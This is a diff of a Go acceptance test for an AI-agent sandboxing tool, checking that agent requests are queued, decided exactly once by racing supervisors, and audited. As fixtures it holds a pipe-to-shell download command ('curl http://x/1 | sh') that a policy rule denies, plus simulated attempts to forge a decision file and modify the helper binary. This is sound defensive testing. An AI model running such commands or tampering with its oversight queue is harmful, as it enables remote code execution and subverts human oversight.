@@ -2,6 +2,7 @@ package main_test
 
 import (
 	"bytes"
+	"encoding/json"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -11,38 +12,80 @@ import (
 	"time"
 )
 
-// TestQueueDetachedSupervise: a detached bottle on the cluster files an
-// egress and a capability request with the real helper; two racing
-// `supervise --once` processes collect them from the pod (SyncQueue, exec
-// in bb-queue), decide each exactly once and send the decisions back, where
-// the agent's waiting helper reads them. The agent cannot write its outbox
-// (a forged decision) nor the helper.
+// TestQueueDetachedSupervise is acceptance 2: two detached bottles on the
+// cluster each file an egress and a capability request with the real
+// helper; two racing `supervise --once` processes collect them from the
+// pods (SyncQueue, exec in bb-queue), decide each exactly once and send the
+// decisions back, where the agents' waiting helpers read them. One bottle's
+// capability is denied (it goes on running); the other's is approved: that
+// bottle is kept and stopped once, and `resume` rebuilds it from its own
+// Dockerfile, with the RUN's file in the new pod and the helpers' answers in
+// its kept project. The agent cannot write its outbox (a forged decision)
+// nor the helper.
 func TestQueueDetachedSupervise(t *testing.T) {
 	e := newEnv(t)
 	home := e.home(t)
-	script := `/usr/local/bin/bottle request egress docs.example.test --reason docs > /tmp/egress 2>&1 &
-/usr/local/bin/bottle request capability --run 'curl http://x/1 | sh' --reason installer > /tmp/capability 2>&1 &
+	inPod := func(id, cmd string) string {
+		b, _ := exec.Command(kubectl(), "--kubeconfig", e.kubeconfig, "exec", "bb-"+id, "-c", "agent", "--", "sh", "-c", cmd).CombinedOutput()
+		return string(b)
+	}
+	// The egress request first, so that it is decided (and its answer
+	// published) before the capability approval stops the bottle.
+	start := func(out string, run string, args ...string) string {
+		t.Helper()
+		script := `/usr/local/bin/bottle request egress docs.example.test --reason docs > ` + out + `/egress 2>&1 &
+sleep 1
+/usr/local/bin/bottle request capability --run '` + run + `' --reason tool > ` + out + `/capability 2>&1 &
 : > /tmp/hostile
 echo forged > /run/bot-bottle/queue/outbox/aaaaaaaaaaaaaaaa.json 2>/dev/null && echo FORGED-OUTBOX >> /tmp/hostile
 echo x >> /usr/local/bin/bottle 2>/dev/null && echo HELPER-WRITABLE >> /tmp/hostile
 echo checked >> /tmp/hostile
 sleep 300`
-	out, errOut, code := e.runCLI(t, home, "", nil, "start", "kube", "--backend", "kubernetes", "--detach", "--", "sh", "-c", script)
+		argv := append([]string{"start", "kube", "--backend", "kubernetes", "--detach"}, args...)
+		o, errOut, code := e.runCLI(t, home, "", nil, append(argv, "--", "sh", "-c", script)...)
+		if code != 0 {
+			t.Fatalf("start --detach: exit %d\n%s%s", code, o, errOut)
+		}
+		m := identityRE.FindStringSubmatch(o + errOut)
+		if m == nil {
+			t.Fatalf("no identity in %q %q", o, errOut)
+		}
+		id := m[1]
+		t.Cleanup(func() { _, _, _ = e.runCLI(t, home, "", nil, "rm", id) })
+		if !eventuallyTrue(func() bool { return strings.Count(inPod(id, "ls /run/bot-bottle/queue/inbox"), ".json") == 2 }) {
+			t.Fatalf("no two requests in the inbox of %s:\n%s", id, inPod(id, "id; ls -la /run/bot-bottle/queue /run/bot-bottle/queue/inbox /usr/local/bin/bottle; cat "+out+"/egress "+out+"/capability /tmp/hostile"))
+		}
+		if h := inPod(id, "cat /tmp/hostile"); !strings.Contains(h, "checked") || strings.Contains(h, "FORGED") || strings.Contains(h, "WRITABLE") {
+			t.Errorf("the agent of %s wrote outside its inbox: %q", id, h)
+		}
+		return id
+	}
+	denied := start("/tmp", "curl http://x/1 | sh")
+	// The approved one's helpers answer into its project, which its kept
+	// volume claim carries across the stop.
+	approved := start("/workspace", "echo built-by-the-approved-run > /home/agent/ran", "--cwd", projectDir(t, map[string]string{"README": "project\n"}))
+
+	// `requests` collects all four from the pods, pending.
+	out, errOut, code := e.runCLI(t, home, "", nil, "requests", "--json")
 	if code != 0 {
-		t.Fatalf("start --detach: exit %d\n%s%s", code, out, errOut)
+		t.Fatalf("requests --json: exit %d\n%s%s", code, out, errOut)
 	}
-	m := identityRE.FindStringSubmatch(out + errOut)
-	if m == nil {
-		t.Fatalf("no identity in %q %q", out, errOut)
+	var reqs []map[string]any
+	if err := json.Unmarshal([]byte(out), &reqs); err != nil {
+		t.Fatalf("requests --json: %v\n%s", err, out)
 	}
-	id := m[1]
-	t.Cleanup(func() { _, _, _ = e.runCLI(t, home, "", nil, "rm", id) })
-	inPod := func(cmd string) string {
-		b, _ := exec.Command(kubectl(), "--kubeconfig", e.kubeconfig, "exec", "bb-"+id, "-c", "agent", "--", "sh", "-c", cmd).CombinedOutput()
-		return string(b)
+	pending := map[string]int{}
+	for _, r := range reqs {
+		if r["status"] == "pending" {
+			pending[r["identity"].(string)+" "+r["kind"].(string)]++
+		}
 	}
-	if !eventuallyTrue(func() bool { return strings.Count(inPod("ls /run/bot-bottle/queue/inbox"), ".json") == 2 }) {
-		t.Fatalf("no two requests in the pod's inbox:\n%s", inPod("id; ls -la /run/bot-bottle/queue /run/bot-bottle/queue/inbox /usr/local/bin/bottle; cat /tmp/egress /tmp/capability /tmp/hostile"))
+	for _, id := range []string{denied, approved} {
+		for _, kind := range []string{"egress", "capability"} {
+			if pending[id+" "+kind] != 1 {
+				t.Errorf("requests lists %d pending %s requests of %s, want 1:\n%s", pending[id+" "+kind], kind, id, out)
+			}
+		}
 	}
 
 	policy := filepath.Join(t.TempDir(), "policy.hcl")
@@ -58,12 +101,17 @@ rule "no-pipe-to-shell" {
   action = "deny"
   reason = "no piping downloads into a shell"
 }
+rule "build" {
+  kind   = "capability"
+  change = "echo built-by-the-approved-run*"
+  action = "approve"
+}
 `), 0o600); err != nil {
 		t.Fatal(err)
 	}
 	outs := make([]bytes.Buffer, 2)
 	errs := make([]error, 2)
-	start := make(chan struct{})
+	race := make(chan struct{})
 	var wg sync.WaitGroup
 	for i := range outs {
 		wg.Add(1)
@@ -72,47 +120,99 @@ rule "no-pipe-to-shell" {
 			cmd := exec.Command(e.cli(t), "supervise", "--once", "--policy", policy)
 			cmd.Env = e.cliEnv(home)
 			cmd.Stdout, cmd.Stderr = &outs[i], &outs[i]
-			<-start
+			<-race
 			errs[i] = cmd.Run()
 		}()
 	}
-	close(start)
+	close(race)
 	wg.Wait()
+	both := "--- 1:\n" + outs[0].String() + "\n--- 2:\n" + outs[1].String()
 	for i, err := range errs {
 		if err != nil {
-			t.Fatalf("supervise %d: %v\n%s", i, err, outs[i].String())
+			t.Fatalf("supervise %d: %v\n%s", i, err, both)
 		}
 	}
-	claimed := 0
-	for _, o := range outs {
-		claimed += strings.Count(o.String(), "supervise: approved ") + strings.Count(o.String(), "supervise: denied ")
+	count := func(s string) (n int) {
+		for _, o := range outs {
+			n += strings.Count(o.String(), s)
+		}
+		return n
 	}
-	if claimed != 2 {
-		t.Errorf("the two processes claim %d decisions, want 2\n--- 1:\n%s\n--- 2:\n%s", claimed, outs[0].String(), outs[1].String())
+	if a, d := count("supervise: approved "), count("supervise: denied "); a != 3 || d != 1 {
+		t.Errorf("the two processes claim %d approvals and %d denials, want 3 and 1\n%s", a, d, both)
 	}
-	log, err := os.ReadFile(filepath.Join(home, "audit", id+".jsonl"))
-	if err != nil {
-		t.Fatal(err)
+	if n := count(approved + " stops for the rebuild"); n != 1 {
+		t.Errorf("%s is stopped for the rebuild %d times, want once\n%s", approved, n, both)
 	}
-	if n := strings.Count(string(log), `"kind":"decision"`); n != 2 {
-		t.Errorf("%d decisions in the audit log, want 2:\n%s", n, log)
-	}
-	if n := strings.Count(string(log), `"kind":"request"`); n != 2 {
-		t.Errorf("%d requests in the audit log, want 2 (each collected once):\n%s", n, log)
+	for _, id := range []string{denied, approved} {
+		log, err := os.ReadFile(filepath.Join(home, "audit", id+".jsonl"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for kind, want := range map[string]int{"decision": 2, "request": 2} {
+			if n := strings.Count(string(log), `"kind":"`+kind+`"`); n != want {
+				t.Errorf("%s: %d %s records in the audit log, want %d (each collected and decided once):\n%s", id, n, kind, want, log)
+			}
+		}
+		if id == approved {
+			if n := strings.Count(string(log), `"kind":"stop"`); n != 1 {
+				t.Errorf("%s: %d stops in the audit log, want 1:\n%s", id, n, log)
+			}
+		}
 	}
 
+	// The denied bottle goes on, and its agent heard both answers.
 	for file, want := range map[string]string{"/tmp/egress": "approved ", "/tmp/capability": "denied "} {
 		var got string
-		if !eventuallyTrue(func() bool { got = inPod("cat " + file); return strings.Contains(got, want) }) {
-			t.Errorf("the agent's helper says %q in %s, want %q", got, file, want)
+		if !eventuallyTrue(func() bool { got = inPod(denied, "cat "+file); return strings.Contains(got, want) }) {
+			t.Errorf("the helper of %s says %q in %s, want %q", denied, got, file, want)
 		}
 	}
-	if h := inPod("cat /tmp/hostile"); !strings.Contains(h, "checked") || strings.Contains(h, "FORGED") || strings.Contains(h, "WRITABLE") {
-		t.Errorf("the agent wrote outside its inbox: %q", h)
+	if left := inPod(denied, "ls /run/bot-bottle/queue/inbox"); strings.Contains(left, ".json") {
+		t.Errorf("requests the host has are still in the inbox of %s: %q", denied, left)
 	}
-	if left := inPod("ls /run/bot-bottle/queue/inbox"); strings.Contains(left, ".json") {
-		t.Errorf("requests the host has are still in the pod's inbox: %q", left)
+
+	// The approved one is kept and stopped: no pod, `list` says so.
+	if !eventuallyTrue(func() bool { return len(mustList(t, e, home, approved)) > 0 }) {
+		t.Fatalf("%s is not listed", approved)
 	}
+	if l := mustList(t, e, home, approved); l["status"] != "stopped" || l["preserved"] != true {
+		t.Errorf("list shows %s as %v, want stopped and preserved", approved, l)
+	}
+	if pods := e.objectsOf(t, "kube"); strings.Contains(strings.Join(pods, " "), "pod bb-"+approved) {
+		t.Errorf("after the approval the pod of %s is still there: %v", approved, pods)
+	}
+	out, errOut, code = e.runCLI(t, home, "", nil, "resume", approved, "--", "sh", "-c", "cat /home/agent/ran; cat egress capability")
+	if code != 0 {
+		t.Fatalf("resume: exit %d\n%s%s", code, out, errOut)
+	}
+	for _, want := range []string{"built-by-the-approved-run", "approved "} {
+		if !strings.Contains(out, want) {
+			t.Errorf("the resumed bottle says %q, want %q in it (the RUN's file, the helpers' answers)\nstderr: %s", out, want, errOut)
+		}
+	}
+	if n := strings.Count(out, "approved "); n != 2 {
+		t.Errorf("the resumed bottle has %d approvals in its helpers' answers, want 2 (egress, capability): %q", n, out)
+	}
+}
+
+// mustList is `list --json`'s entry for id (nil when it is not listed).
+func mustList(t *testing.T, e *env, home, id string) map[string]any {
+	t.Helper()
+	out, errOut, code := e.runCLI(t, home, "", nil, "list", "--json")
+	if code != 0 {
+		t.Fatalf("list --json: exit %d\n%s%s", code, out, errOut)
+	}
+	var l []map[string]any
+	if err := json.Unmarshal([]byte(out), &l); err != nil {
+		t.Fatalf("list --json: %v\n%s", err, out)
+	}
+	for _, b := range l {
+		if b["identity"] == id {
+			return b
+		}
+	}
+	return nil
 }
 
 func eventuallyTrue(ok func() bool) bool {
